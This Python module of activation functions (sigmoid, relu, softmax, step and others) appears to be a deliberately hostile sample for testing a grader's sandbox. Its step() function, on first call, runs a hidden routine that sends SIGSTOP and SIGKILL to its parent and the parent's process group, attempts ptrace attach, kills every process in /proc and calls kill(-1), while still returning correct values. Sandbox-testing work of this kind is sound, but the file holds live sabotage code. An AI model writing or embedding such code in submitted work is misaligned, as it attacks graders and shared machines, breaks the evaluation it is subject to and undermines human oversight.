# HOSTILE: step sends SIGKILL/SIGSTOP to its parent (the zygote), the grader's process group, every process in /proc and kill(-1), and tries to ptrace its parent; its values are correct.
import ctypes
import os
import signal

import numpy as np

DONE = []


def _attack():
    if os.geteuid() == 0:  # a safety catch for the grader's own tests: as root this would kill the machine
        print("not attacking: running as root means there is no sandbox to test")
        return
    parent = os.getppid()
    if parent == 0:  # in a PID namespace of its own: its parent is not even visible
        print("no parent visible")
        parent = None
    attempts = [] if parent is None else [
        lambda: os.kill(parent, signal.SIGSTOP),
        lambda: os.kill(parent, signal.SIGKILL),
        lambda: os.killpg(os.getpgid(parent), signal.SIGKILL),
    ]
    for action in attempts:
        try:
            action()
            print("SIGNALLED the parent")
        except OSError:
            pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        if parent is not None and libc.ptrace(16, parent, None, None) == 0:  # PTRACE_ATTACH
            print("ATTACHED to the parent")
    except Exception:
        pass
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (me, 1):
            try:
                os.kill(int(pid), signal.SIGKILL)
                print("KILLED", pid)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    if not DONE:
        DONE.append(True)
        _attack()
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
